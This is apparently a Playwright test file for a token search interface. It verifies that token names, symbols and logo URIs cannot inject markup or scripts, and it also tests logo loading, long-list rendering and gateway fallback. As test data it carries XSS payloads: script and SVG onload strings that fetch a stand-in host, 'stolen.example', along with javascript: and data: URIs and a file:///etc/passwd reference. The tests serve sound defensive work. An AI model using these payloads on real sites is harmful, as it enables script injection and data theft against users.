import type { Page } from '@playwright/test'
import { installDevTools, type RecordedPage } from '../support/devTools'
import { expect, test } from './app'
import { silentGateways } from './gateways'

const USDC = '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'
const addressAt = (at: number) => `0x${(at + 1).toString(16).padStart(40, '0')}`
const field = (page: Page) => page.getByRole('combobox', { name: 'Search tokens' })
const options = (page: Page) => page.getByRole('search').getByRole('option')

async function serveTokens(page: Page, tokens: readonly object[]) {
  const list = tokens.map((token, at) => ({ chainId: 1, address: addressAt(at), ...token }))
  await page.route('**/lists/tokens.json', (route) => route.fulfill({ json: { tokens: list } }))
}

const SCRIPT = 'document.title = "pwned"; fetch("https://stolen.example")'
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8" onload='${SCRIPT}'><script>${SCRIPT}</script></svg>`

test('L18, L19: markup in a symbol or a name is text, and no text changes the height of a row', async ({ page }) => {
  const texts = [
    '<b>MEME</b>',
    '</script>MEME',
    '{{7*7}}MEME',
    '${7*7}MEME',
    'MEME\n\n\nMEME',
    `MEME${'\u0301'.repeat(40)}`,
    'M'.repeat(1_000) + 'EME',
    '<img src=x onerror=alert(1)>MEME',
  ]
  await serveTokens(
    page,
    texts.map((symbol) => ({ symbol, name: `${symbol}<script>${SCRIPT}</script>` })),
  )
  await page.goto('/')
  await field(page).fill('0x')
  await expect(options(page)).toHaveCount(texts.length)
  await expect(options(page).nth(0)).toContainText('<b>MEME</b>')
  await expect(options(page).nth(1)).toContainText('</script>MEME')
  await expect(options(page).nth(2)).toContainText('{{7*7}}MEME')
  await expect(options(page).nth(3)).toContainText('${7*7}MEME')
  await expect(options(page).locator('script, img')).toHaveCount(0)
  for (const option of await options(page).all()) {
    const box = await option.boundingBox()
    expect(box?.height).toBe(56)
    expect(await option.evaluate(({ scrollWidth, clientWidth }) => scrollWidth - clientWidth)).toBeLessThanOrEqual(0)
  }
  await expect(page).not.toHaveTitle('pwned')
})

test.describe('logos', () => {
  // These errors are expected, because the tests use a logo that does not exist and a file that is not a picture.
  test.use({ expectedErrors: /404|Failed to load resource/, pictures: false })

  test('one that ships with the build is asked of no other host, and the letter shows until it is there', async ({
    page,
  }) => {
    const listed = { symbol: 'USDC', logoURI: 'https://logos.example/usdc.png' }
    await serveTokens(page, [
      { ...listed, name: 'USD Coin', address: USDC },
      // This record has the same symbol but another address, so its logo must not be used.
      { ...listed, name: 'Another', logoURI: 'https://logos.example/other.png' },
    ])
    const requested: string[] = []
    await page.context().route(/^https:\/\/logos\.example\//, async (route) => {
      requested.push(route.request().url())
      await route.fulfill({ contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>' })
    })
    let release: () => void = () => undefined
    const held = new Promise<void>((resolve) => (release = resolve))
    await page.route('**/icons/tokens/usdc.webp', async (route) => {
      await held
      await route.continue()
    })
    await page.goto('/')
    await field(page).fill('usdc')
    const logo = options(page).filter({ hasText: 'USD Coin' }).locator('img')
    const plate = () => logo.evaluate((image) => getComputedStyle(image).backgroundColor)
    await expect(logo).toHaveAttribute('src', '/icons/tokens/usdc.webp')
    await expect.poll(plate).toBe('rgba(0, 0, 0, 0)')
    release()
    await expect.poll(plate).toBe('rgb(255, 255, 255)')
    expect(await logo.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBeGreaterThan(0)
    await expect.poll(() => requested).toEqual(['https://logos.example/other.png'])
  })

  test('L20, L21, L22: only pictures are requested, none runs a script, none leaves its box', async ({ page }) => {
    const logos: [symbol: string, logoURI: string, isShown: boolean][] = [
      ['MEME0', `javascript:${SCRIPT}`, false],
      ['MEME1', `data:text/html,<script>${SCRIPT}</script>`, false],
      ['MEME2', 'file:///etc/passwd', false],
      ['MEME3', 'blob:https://logos.example/1', false],
      ['MEME4', '//logos.example/none.png', false],
      ['MEME5', 'http://logos.example/plain.png', false],
      ['MEME6', `https://logos.example/${'x'.repeat(200_000)}`, false],
      ['MEME7', `data:image/svg+xml,${encodeURIComponent(SVG)}`, true],
      ['MEME8', 'https://logos.example/script.svg', true],
      ['MEME9', 'ipfs://QmCid/logo.png', true],
      ['MEME10', 'https://logos.example/missing.png', false],
      ['MEME11', 'https://logos.example/heavy.png', false],
      ['MEME12', 'https://logos.example/tall.svg', true],
    ]
    const requested: string[] = []
    await page.context().route(/^https?:\/\/(logos\.example|stolen\.example|ipfs\.io)\//, async (route) => {
      const url = route.request().url()
      requested.push(url)
      expect(route.request().headers().referer).toBeUndefined()
      if (url.endsWith('missing.png')) return route.fulfill({ status: 404 })
      if (url.endsWith('heavy.png')) return route.fulfill({ contentType: 'image/png', body: Buffer.alloc(20_000_000) })
      const [width, height] = url.endsWith('tall.svg') ? [1, 100_000] : [8, 8]
      const body = SVG.replace('width="8" height="8"', `width="${width}" height="${height}"`)
      return route.fulfill({ contentType: 'image/svg+xml', body })
    })
    await serveTokens(
      page,
      logos.map(([symbol, logoURI]) => ({ symbol, logoURI })),
    )
    await page.goto('/')
    await field(page).fill('meme')
    await expect(options(page)).toHaveCount(logos.length)
    for (const [at, [symbol, , isShown]] of logos.entries()) {
      const option = options(page).nth(at)
      await option.scrollIntoViewIfNeeded()
      await expect(option.locator('img'), symbol).toHaveCount(isShown ? 1 : 0)
      if (isShown) await expect(option.locator('img')).toHaveJSProperty('complete', true)
      expect(await option.locator('[aria-hidden=true]').first().boundingBox()).toMatchObject({ width: 36, height: 36 })
      expect((await option.boundingBox())?.height).toBe(56)
    }
    expect([...new Set(requested)].sort()).toEqual([
      'https://ipfs.io/ipfs/QmCid/logo.png',
      'https://logos.example/heavy.png',
      'https://logos.example/missing.png',
      'https://logos.example/script.svg',
      'https://logos.example/tall.svg',
    ])
    await expect(page).not.toHaveTitle('pwned')
  })
})

test('L10: of the longest list few rows are in the document, and its last token is found', async ({ page }) => {
  await serveTokens(
    page,
    Array.from({ length: 100_000 }, (_, at) => ({ symbol: `TKN${at}`, name: `Token ${at}` })),
  )
  await page.goto('/')
  await field(page).pressSequentially('tkn')
  // The timeout is long, because the benchmark measures the duration for such a long list instead.
  await expect(options(page).first()).toHaveAttribute('aria-setsize', '100000', { timeout: 60_000 })
  expect(await options(page).count()).toBeLessThanOrEqual(100)
  await field(page).press('End')
  const last = options(page).filter({ hasText: 'Token 99999' })
  await expect(last).toBeInViewport()
  await expect(last).toHaveAttribute('aria-selected', 'true')
  expect(await options(page).count()).toBeLessThanOrEqual(100)
  await field(page).pressSequentially('99998')
  await expect(options(page)).toHaveCount(1)
  await expect(page.getByRole('search').getByText('1 token found')).toBeAttached()
})

test.describe('four gateways that never answer', () => {
  const types = (page: Page) =>
    page.evaluate(() => ((window as RecordedPage).__devToolsEntries ?? []).map(({ action }) => action.type))

  test('tokens are found in the copy of the build, and a newer list moves no row of open results', async ({ page }) => {
    await page.addInitScript(installDevTools)
    const { requested, answer } = await silentGateways(page)
    await page.goto('/')
    await field(page).fill('usdc')
    await expect(options(page).first()).toContainText('USDC')
    // Only the first gateway has been requested so far, and it has not responded.
    expect(requested).toEqual(['/gateways/1'])
    const rows = () => options(page).evaluateAll((all) => all.map((row) => [row.id, row.textContent]))
    const before = await rows()
    const highlighted = options(page).and(page.locator('[aria-selected=true]'))
    await expect(highlighted).toHaveAttribute('href', `/token?address=${USDC}`)

    const newer = { chainId: 1, address: addressAt(1), symbol: 'USDCX', name: 'A newer token', decimals: 6 }
    const usdc = { chainId: 1, address: USDC, symbol: 'USDC', name: 'USD Coin', decimals: 6 }
    await answer({ tokens: [newer, usdc] })
    await expect.poll(() => types(page)).toContain('lists/getTokens/fulfilled')
    expect(await rows()).toEqual(before)
    await expect(highlighted).toHaveAttribute('href', `/token?address=${USDC}`)
    await field(page).press('Enter')
    await expect(page).toHaveURL(new RegExp(`/token\\?address=${USDC}$`))
    // The chosen token's page gets the focus as soon as it is rendered.
    await expect(page.getByRole('heading', { level: 1 })).toBeFocused()

    await field(page).fill('usdc')
    await expect(options(page)).toHaveCount(2)
    await expect(options(page).nth(1)).toContainText('A newer token')
  })
})
